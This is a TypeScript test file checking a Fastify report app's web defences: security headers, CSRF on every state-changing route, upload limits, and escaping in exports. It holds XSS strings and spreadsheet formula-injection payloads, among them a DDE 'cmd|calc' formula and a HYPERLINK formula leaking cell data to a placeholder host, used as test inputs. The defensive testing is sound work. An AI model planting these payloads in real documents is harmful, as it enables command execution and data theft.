import type { FastifyInstance, InjectOptions } from 'fastify';
import { strFromU8, unzipSync } from 'fflate';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/domain/report-schema.ts';
import { buildApp } from '../../src/server/app.ts';
import { freshDatabase, type TestDb } from '../helpers/databases.ts';
import { signIn, type Client } from './api-client.ts';
import { buildWorld, type World } from './world.ts';

/**
 * Web defences, end to end through the HTTP app: headers on the SPA and the API, CSRF on every
 * state-changing route (enumerated, so new routes are covered), upload limits, XSS payloads
 * inert in JSON/DOCX/XLSX downloads, and no spreadsheet formula built from user text.
 */
const SCRIPT = '<script>alert("khcn")</script>';
const IMG = '<img src=x onerror=alert(1)>';
const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm")', '+1+cmd|x', '-2+3', '@SUM(1)'];

interface RouteKey { method: string; url: string }

describe('web security', () => {
  let t: TestDb;
  let app: FastifyInstance;
  let world: World;
  let officer: Client;
  let webDist: string;
  const routes: RouteKey[] = [];

  beforeAll(async () => {
    t = await freshDatabase('sqlite');
    world = await buildWorld(t.store);
    webDist = mkdtempSync(join(tmpdir(), 'khcn-web-'));
    writeFileSync(join(webDist, 'index.html'), '<!doctype html><html><head><script type="module" src="/assets/app.js"></script></head><body><div id="root"></div></body></html>');
    app = await buildApp({
      store: t.store,
      webDist,
      onRoute: (r) => {
        if (r.url.startsWith('/api/') && !r.url.startsWith('/api/docs')) for (const method of [r.method].flat()) routes.push({ method, url: r.url });
      },
    });
    await app.ready();
    officer = await signIn(app, 'kienthuy.canbo');
  }, 60_000);
  afterAll(async () => {
    await app?.close();
    await t?.cleanup();
    rmSync(webDist, { recursive: true, force: true });
  });

  /** Fills path parameters with the officer's own report (so only CSRF can stop the request). */
  const concrete = (url: string) => url.replace(':id', world.hp.own.reportId).replace(':version', '1').replace(/:[a-zA-Z]+/g, world.hp.own.reportId);

  describe('headers', () => {
    it.each(['/', '/bao-cao/123', '/api/health', '/api/me', '/api/khong-co', '/api/docs/'])('%s carries CSP without inline scripts, frame-ancestors none, nosniff, a referrer policy', async (url) => {
      const res = await app.inject({ method: 'GET', url });
      expect(res.statusCode).toBeLessThan(500);
      const csp = String(res.headers['content-security-policy']);
      const script = /script-src ([^;]*)/.exec(csp)?.[1] ?? '';
      expect(script).toContain("'self'");
      expect(script).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
      expect(csp).toMatch(/frame-ancestors 'none'/);
      expect(csp).toMatch(/object-src 'none'/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['referrer-policy']).toMatch(/^(same-origin|no-referrer|strict-origin)/);
      expect(res.headers['x-frame-options']).toBe('DENY');
      if (url.startsWith('/api/') && !url.startsWith('/api/docs')) {
        expect(String(res.headers['content-type'])).toMatch(/^application\/json/);
        expect(res.headers['cache-control']).toBe('no-store');
      }
    });

    it('does not reflect a hostile URL into the page', async () => {
      const res = await app.inject({ method: 'GET', url: `/x%22%3E${encodeURIComponent(SCRIPT)}` });
      expect(res.body).not.toContain('alert("khcn")');
      const api = await app.inject({ method: 'GET', url: `/api/reports/${encodeURIComponent(SCRIPT)}`, headers: { cookie: officer.cookie ?? '' } });
      expect(api.statusCode).toBe(404);
      expect(String(api.headers['content-type'])).toMatch(/^application\/json/);
    });
  });

  describe('CSRF', () => {
    const stateChanging = () => routes.filter((r) => !['GET', 'HEAD', 'OPTIONS'].includes(r.method) && r.url !== '/api/auth/login');

    it('refuses every state-changing route without the session’s token, and changes nothing', async () => {
      const list = stateChanging();
      expect(list.length).toBeGreaterThanOrEqual(4);
      const other = await signIn(app, 'anlao.canbo');
      const before = await t.store.db.selectFrom('reports').select(['id', 'version', 'status']).orderBy('id').execute();
      const auditBefore = await t.store.db.selectFrom('audit_head').select('seq').executeTakeFirstOrThrow();
      let cases = 0;
      for (const route of list) {
        for (const token of [undefined, '', 'gia-mao', other.csrf, officer.csrf?.slice(0, -1)]) {
          const headers: Record<string, string> = { cookie: officer.cookie ?? '', 'if-match': '1' };
          if (token !== undefined) headers['x-csrf-token'] = token;
          const res = await app.inject({ method: route.method as InjectOptions['method'], url: concrete(route.url), headers, payload: {} });
          cases++;
          expect(res.statusCode, `${route.method} ${route.url} token=${String(token)}`).toBe(403);
          expect(res.json().error.code).toBe('CSRF_INVALID');
        }
      }
      console.log(`[csrf] ${list.length} state-changing routes × 5 bad tokens = ${cases} cases`);
      expect(await t.store.db.selectFrom('reports').select(['id', 'version', 'status']).orderBy('id').execute()).toEqual(before);
      expect(await t.store.db.selectFrom('audit_head').select('seq').executeTakeFirstOrThrow()).toEqual(auditBefore);
      expect((await officer.request({ method: 'GET', url: '/api/me' })).statusCode).toBe(200);
    });

    it('lets the same requests through the CSRF check with the right token', async () => {
      for (const route of stateChanging().filter((r) => r.url !== '/api/auth/logout')) {
        const res = await officer.request({ method: route.method as InjectOptions['method'], url: concrete(route.url), headers: { 'if-match': '1' }, payload: {} });
        expect(res.headers['content-type'] && res.statusCode === 403 ? res.json().error.code : 'ok', `${route.method} ${route.url}`).not.toBe('CSRF_INVALID');
      }
    });

    it('does not accept a sign-in posted by a cross-site form (the body must be a JSON object)', async () => {
      for (const type of ['text/plain', 'application/x-www-form-urlencoded']) {
        const res = await app.inject({ method: 'POST', url: '/api/auth/login', headers: { 'content-type': type }, payload: 'username=kienthuy.canbo&password=demo2026', remoteAddress: '10.20.0.1' });
        expect([400, 415], type).toContain(res.statusCode);
        expect(res.json().error.code).toMatch(/^(UNSUPPORTED_MEDIA_TYPE|VALIDATION|BAD_REQUEST)$/);
        expect(res.headers['set-cookie'], type).toBeUndefined();
      }
    });
  });

  describe('uploads', () => {
    const upload = (fileName: string, content: Buffer, extra = '') => {
      const boundary = '----khcn-upload';
      const payload = Buffer.concat([
        Buffer.from(`${extra}--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
        content,
        Buffer.from(`\r\n--${boundary}--\r\n`),
      ]);
      return officer.request({ method: 'POST', url: '/api/reports/import', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, payload });
    };

    it.each([
      ['a file over 10 MB', 'to.txt', Buffer.alloc(10 * 1024 * 1024 + 10, 0x61), 413, 'FILE_TOO_LARGE'],
      ['an executable', 'virus.exe', Buffer.from('MZ\u0090\u0000'), 415, 'UNSUPPORTED_FILE'],
      ['a double extension', 'bao-cao.docx.exe', Buffer.from('MZ'), 415, 'UNSUPPORTED_FILE'],
      ['a script named .html', 'x.html', Buffer.from(SCRIPT), 415, 'UNSUPPORTED_FILE'],
      ['a .docx that is not a zip', 'bao-cao.docx', Buffer.from('khong phai docx'), 400, 'IMPORT_DOCX_INVALID'],
      ['a binary named .txt', 'bao-cao.txt', Buffer.from([0, 1, 2, 3, 0, 0, 255, 254, 0, 7, 0, 0]), 400, /^IMPORT_(BINARY|ENCODING)$/],
    ])('refuses %s with a coded error', async (_what, name, content, status, code) => {
      const res = await upload(name, content);
      expect(res.statusCode).toBe(status);
      expect(res.json().error.code).toMatch(code);
      expect(res.json().error.message).toMatch(/\p{L}/u);
    });

    it('refuses a JSON body over 2 MB and a non-multipart import', async () => {
      const big = await officer.request({ method: 'PUT', url: `/api/reports/${world.hp.own.reportId}`, headers: { 'if-match': '1', 'content-type': 'application/json' }, payload: JSON.stringify({ x: 'a'.repeat(2 * 1024 * 1024 + 1) }) });
      expect(big.statusCode).toBe(413);
      expect(big.json().error.code).toBe('BODY_TOO_LARGE');
      const plain = await officer.request({ method: 'POST', url: '/api/reports/import', payload: { file: 'x' } });
      expect(plain.statusCode).toBe(415);
      expect(plain.json().error.code).toBe('NOT_MULTIPART');
    });
  });

  describe('hostile text in what the API shows and exports', () => {
    let reportId: string;
    beforeAll(async () => {
      reportId = world.hp.own.reportId;
      const current = (await officer.request({ method: 'GET', url: `/api/reports/${reportId}` })).json() as { report: Report; meta: { version: number } };
      const r = current.report;
      r.implementation.leadership.paragraphs = [SCRIPT, IMG, ...FORMULAS];
      r.document.signer.name = SCRIPT;
      const group = r.plan.budget[0]!;
      group.children = [...FORMULAS, SCRIPT, IMG].map((title, i) => ({ id: `hostile-${i}`, title, kind: 'recurrent' as const, amount: 1_000_000, children: [], note: FORMULAS[i % FORMULAS.length] }));
      const saved = await officer.request({ method: 'PUT', url: `/api/reports/${reportId}`, headers: { 'if-match': String(current.meta.version) }, payload: r as unknown as Record<string, unknown> });
      expect(saved.statusCode, saved.body).toBe(200);
    });

    it('API JSON: served as application/json with nosniff, so markup stays data', async () => {
      const res = await officer.request({ method: 'GET', url: `/api/reports/${reportId}` });
      expect(String(res.headers['content-type'])).toMatch(/^application\/json; charset=utf-8/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect((res.json() as { report: Report }).report.implementation.leadership.paragraphs[0]).toBe(SCRIPT);
    });

    it('DOCX download: markup escaped in every part', async () => {
      const res = await officer.request({ method: 'GET', url: `/api/reports/${reportId}/document.docx?appendix=1` });
      expect(res.statusCode).toBe(200);
      expect(String(res.headers['content-disposition'])).toMatch(/^attachment;/);
      const parts = Object.entries(unzipSync(res.rawPayload)).map(([name, data]) => [name, strFromU8(data)] as const);
      const document = parts.find(([name]) => name === 'word/document.xml')?.[1] ?? '';
      expect(document).toContain('&lt;script&gt;');
      for (const [name, xml] of parts) {
        // Escaped markup (&lt;img … onerror=…&gt;) is text; a raw tag would be an element.
        expect(xml, name).not.toMatch(/<script|<img/i);
        expect(xml, name).not.toMatch(/HYPERLINK\("http:\/\/ke-gian/);
      }
    });

    it('every spreadsheet export: user text is a string cell, never a formula', async () => {
      const exports = routes.filter((r) => r.method === 'GET' && /\.(xlsx|csv)$/.test(r.url));
      expect(exports.length).toBeGreaterThan(0);
      // The Department's exports (per cycle) are fetched by its reviewer, a commune's by its officer.
      const reviewer = await signIn(app, 'so.chuyenvien');
      for (const route of exports) {
        const perCycle = route.url.startsWith('/api/cycles/');
        const url = perCycle ? route.url.replace(':id', world.hp.cycleId) : concrete(route.url);
        const res = await (perCycle ? reviewer : officer).request({ method: 'GET', url });
        expect(res.statusCode, route.url).toBe(200);
        if (route.url.endsWith('.csv')) {
          // CSV has no cell types: no field may start like a formula (=, +, @, or - before a non-digit).
          for (const field of res.body.split(/[\r\n,;]/)) expect(field.replace(/^"/, ''), route.url).not.toMatch(/^([=+@\t]|-[^\d\s])/);
          continue;
        }
        const parts = Object.entries(unzipSync(res.rawPayload)).map(([name, data]) => [name, strFromU8(data)] as const);
        const sheets = parts.filter(([name]) => /^xl\/worksheets\/.*\.xml$/.test(name));
        expect(sheets.length).toBeGreaterThan(0);
        for (const [name, xml] of sheets) {
          for (const m of xml.matchAll(/<f(?:\s[^>]*)?>([^<]*)<\/f>/g)) {
            const formula = (m[1] ?? '').replace(/&apos;/g, "'").replace(/&quot;/g, '"').replace(/&amp;/g, '&');
            // The only formulas are the app's own: functions over cell ranges of named sheets.
            expect(formula.replace(/'[^']*'!/g, '').replace(/"[^"]*"/g, ''), `${route.url} ${name}: ${formula}`).toMatch(/^[A-Z0-9:,()$+\-*/ .]*$/);
            expect(formula, `${route.url} ${name}`).not.toMatch(/cmd|HYPERLINK|calc|WEBSERVICE|IMPORT|script|ke-gian/i);
          }
          expect(xml).not.toMatch(/<script|<img/i);
        }
        if (perCycle) continue; // consolidation reads accepted reports; the hostile draft is not among them
        const strings = parts.find(([name]) => name === 'xl/sharedStrings.xml')?.[1] ?? '';
        const inline = sheets.map(([, xml]) => xml).join('');
        expect(strings + inline, `${route.url}: the hostile text is kept, as text`).toContain('=cmd|');
      }
    });
  });
});
